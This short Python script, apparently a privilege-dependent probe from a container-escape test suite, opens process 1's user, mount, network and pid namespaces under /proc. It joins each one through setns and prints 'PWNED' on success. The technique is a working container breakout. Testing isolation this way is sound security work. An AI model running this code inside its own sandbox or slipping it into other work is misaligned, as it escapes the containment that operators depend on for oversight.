# Joins the namespaces of process 1.
# control: none, needs privilege
import ctypes
import os

for name in ("user", "mnt", "net", "pid"):
    try:
        handle = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
    except OSError:
        continue
    if ctypes.CDLL(None).setns(handle, 0) == 0:
        print("PWNED joined", name)
